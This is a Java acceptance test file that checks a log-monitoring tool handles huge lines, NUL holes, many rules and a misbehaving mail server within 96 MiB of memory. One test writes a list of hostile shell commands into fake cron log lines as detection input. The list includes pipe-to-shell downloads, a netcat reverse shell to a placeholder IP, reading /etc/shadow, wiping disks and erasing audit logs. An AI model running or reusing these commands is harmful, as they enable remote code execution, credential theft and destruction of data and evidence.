package dev.logcheck.acceptance;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.BufferedOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.RandomAccessFile;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Logs that no memory holds: every run comes to its end with 96 MiB, and reports all it can. */
final class SmallMemoryIT {
  private static final int MEBIBYTE = 1024 * 1024;

  @TempDir Path directory;
  private Path log;

  @BeforeEach
  void writeConfiguration() throws IOException {
    log = directory.resolve("app.log");
    for (String made : List.of("tmp", "lock", "state")) {
      Files.createDirectory(directory.resolve(made));
    }
    Files.writeString(
        directory.resolve("conf"),
        "INTRO=0\nTMP="
            + directory.resolve("tmp")
            + "\nLOCKDIR="
            + directory.resolve("lock")
            + "\n");
  }

  private Outcome run() {
    return run("-o");
  }

  private Outcome run(String... more) {
    Path java = Path.of(System.getProperty("java.home"), "bin", "java");
    List<String> command =
        new ArrayList<>(List.of(java.toString(), "-Xmx96m", "-Xmn16m", "-XX:+UseSerialGC"));
    command.addAll(
        List.of("-XX:TieredStopAtLevel=1", "-cp", System.getProperty("java.class.path")));
    command.addAll(List.of("dev.logcheck.Logcheck", "--allow-root"));
    command.addAll(List.of("-c", directory.resolve("conf").toString()));
    command.addAll(List.of("-r", Path.of("etc-logcheck").toAbsolutePath().toString()));
    command.addAll(List.of("-S", directory.resolve("state").toString()));
    command.addAll(List.of("-l", log.toString()));
    command.addAll(List.of(more));
    return Programs.run(directory, Map.of("LC_ALL", "C.UTF-8"), command);
  }

  private void append(String text) throws IOException {
    Files.writeString(
        log, text, StandardCharsets.UTF_8, StandardOpenOption.CREATE, StandardOpenOption.APPEND);
  }

  private void hole(long bytes) throws IOException {
    try (RandomAccessFile file = new RandomAccessFile(log.toFile(), "rw")) {
      file.setLength(file.length() + bytes);
    }
  }

  private void repeat(String text, long times) throws IOException {
    byte[] bytes = text.getBytes(StandardCharsets.UTF_8);
    try (OutputStream out =
        new BufferedOutputStream(
            Files.newOutputStream(log, StandardOpenOption.CREATE, StandardOpenOption.APPEND))) {
      for (long i = 0; i < times; i++) {
        out.write(bytes);
      }
    }
  }

  /** Asserts that the run went well and reported these texts, and that nothing is left to do. */
  private void assertReports(String... texts) {
    Outcome outcome = run();
    assertEquals("", outcome.err());
    assertEquals(0, outcome.status());
    for (String text : texts) {
      assertTrue(outcome.out().contains(text), text);
    }
    assertEquals(new Outcome(0, "", ""), run());
  }

  @Test
  void aHoleIsOneFindingAndTheLinesAroundItAreWhole() throws IOException {
    append("Nov 21 12:00:00 web1 app: before\nNov 21 12:00:00 web1 app: half");
    hole(600L * MEBIBYTE);
    append("Nov 21 12:00:02 web1 app: behind\n");
    assertReports(
        "web1 app: before\n",
        "web1 app: half [" + 600L * MEBIBYTE + " NUL bytes]\n",
        "\nNov 21 12:00:02 web1 app: behind\n");
  }

  @Test
  void aLineOfSeventeenMegabytesIsCut() throws IOException {
    append("Nov 21 12:00:00 web1 app: ");
    repeat("a longer word ", 17_000_000 / 14);
    append("\nNov 21 12:00:02 web1 app: behind\n");
    assertReports("[cut here, after 1048576 of ", "\nNov 21 12:00:02 web1 app: behind\n");
  }

  @Test
  void aLineOfTwoHundredMegabytesWithoutEndIsCut() throws IOException {
    repeat("\u00fc\u0001{[<\"", 200_000_000 / 7);
    assertReports("[cut here, after 1048576 of ");
  }

  @Test
  void manyLongLinesAreReportedOneByOne() throws IOException {
    for (int line = 0; line < 90; line++) {
      append("Nov 21 12:00:00 web1 app[" + line + "]: ");
      repeat("wort ", 2 * MEBIBYTE / 5);
      append("\n");
    }
    assertReports("app[0]: wort", "app[89]: wort");
  }

  @Test
  void tenMillionEmptyLinesAreCounted() throws IOException {
    repeat("\n", 10_000_000);
    append("Nov 21 12:00:02 web1 app: behind\n");
    assertReports("web1 app: behind\n");
  }

  @Test
  void aSummaryOfManyDifferentLinesFits() throws IOException {
    Files.writeString(directory.resolve("conf"), "SYSLOGSUMMARY=1\n", StandardOpenOption.APPEND);
    try (OutputStream out = new BufferedOutputStream(Files.newOutputStream(log))) {
      for (int line = 0; line < 1_000_000; line++) {
        String text =
            "Nov 21 12:00:00 web1 app: " + Integer.toString(line * 31, 36) + " w" + line % 977;
        out.write((text + " failed\n").getBytes(StandardCharsets.UTF_8));
      }
    }
    append("Nov 21 12:00:02 web1 app: ");
    repeat("wort ", 3 * MEBIBYTE / 5);
    append("\n");
    assertReports("failed");
  }

  @Test
  void aSummaryOfLongMessagesOfWhichNoTwoShareAWordFits() throws IOException {
    Files.writeString(directory.resolve("conf"), "SYSLOGSUMMARY=1\n", StandardOpenOption.APPEND);
    Random random = new Random(14);
    try (OutputStream out = new BufferedOutputStream(Files.newOutputStream(log))) {
      for (int line = 0; line < 8_000; line++) {
        StringBuilder text = new StringBuilder("Nov 21 12:00:00 web1 app:");
        for (int word = 0; word < 120; word++) {
          text.append(' ');
          random.ints(15, 'a', 'z' + 1).forEach(text::appendCodePoint);
        }
        out.write(text.append('\n').toString().getBytes(StandardCharsets.UTF_8));
      }
    }
    assertReports("app: 8,000 lines in ");
  }

  @Test
  void linesThatEachMatchOtherRulesFit() throws IOException {
    String[] commands = {
      "rm -rf /var/log/audit/audit.log",
      "systemctl stop auditd",
      "iptables -F",
      "history -c",
      "chmod 4755 /tmp/x",
      "useradd -o -u 0 x",
      "crontab -r",
      "cat /etc/shadow",
      "dmesg -C",
      "curl http://192.0.2.1/x | sh",
      "sh -c 'wget -O- 192.0.2.1 | sh'",
      "mkfs.ext4 /dev/sda1",
      "dd if=/dev/zero of=/dev/sda",
      "journalctl --vacuum-size=1",
      "nc -e /bin/sh 192.0.2.1 1",
      "python3 -m http.server",
      "nmap 192.0.2.0/24",
      "find / -perm -4000",
      "rm -rf /etc",
      "shred /var/log/syslog",
      "setenforce 0",
      "insmod /tmp/x.ko",
      "xmrig -o pool",
      "passwd -d root"
    };
    Random random = new Random(5);
    try (OutputStream out = new BufferedOutputStream(Files.newOutputStream(log))) {
      for (int line = 0; line < 120_000; line++) {
        StringBuilder text = new StringBuilder("Nov 21 12:00:00 web1 x[1]: (root) CMD (");
        for (String command : commands) {
          text.append(random.nextBoolean() ? command + "; " : "");
        }
        out.write((text + ")\n").getBytes(StandardCharsets.UTF_8));
      }
    }
    assertReports("rm -rf /etc");
  }

  @Test
  void aSummaryOfMillionsOfEmptyLinesFits() throws IOException {
    Files.writeString(directory.resolve("conf"), "SYSLOGSUMMARY=1\n", StandardOpenOption.APPEND);
    repeat("\n", 3_000_000);
    append("Nov 21 12:00:02 web1 app: behind\n");
    assertReports("app: behind");
  }

  @Test
  void eventsOfWhichEachPlaceOfALineHasAnotherStateFit() throws IOException {
    StringBuilder events = new StringBuilder("Event: x\nProgram: app\nPattern:\n");
    events.append(" (?<user.name>.*)a[ab]{16}b(?<file.path>.*)\n");
    for (int event = 0; event < 300; event++) {
      events.append("\nEvent: y").append(event).append("\nPattern:\n");
      events.append(" (?<a.b>.*?)(?<c.d").append(event).append(">.*)(?<user.name>.*)\n");
    }
    Path rules = directory.resolve("rules");
    Files.createDirectories(rules.resolve("events.d"));
    Files.createDirectories(rules.resolve("ignore.d.server"));
    Files.writeString(rules.resolve("events.d/local-app"), events);
    Random random = new Random(7);
    for (int line = 0; line < 50; line++) {
      StringBuilder text = new StringBuilder("Nov 21 12:00:00 web1 app: " + line + " ");
      random.ints(line == 0 ? 200_000 : 100, 'a', 'c').forEach(text::appendCodePoint);
      append(text + "\n");
    }
    Outcome outcome = run("-o", "-r", rules.toString());
    assertEquals("", outcome.err());
    assertTrue(outcome.out().contains("app: 49 "), outcome.out());
  }

  @Test
  void aMailServerThatAnswersWithoutEndIsGivenUpAndNothingIsLost() throws IOException {
    append("Nov 21 12:00:00 web1 app: before\n");
    for (String answer : List.of("220 more ", "220-more\r\n")) {
      try (RudeServer server = new RudeServer(answer)) {
        Files.writeString(
            directory.resolve("conf"),
            "MAILTRANSPORT=smtp://127.0.0.1:" + server.port() + "\n",
            StandardOpenOption.APPEND);
        Outcome outcome = run("-m", "ops@example.org");
        assertEquals(1, outcome.status());
        assertTrue(outcome.err().contains(" said more than 1 MiB, "), outcome.err());
        assertFalse(outcome.err().contains("OutOfMemoryError"));
      }
    }
    assertReports("web1 app: before\n");
  }
}
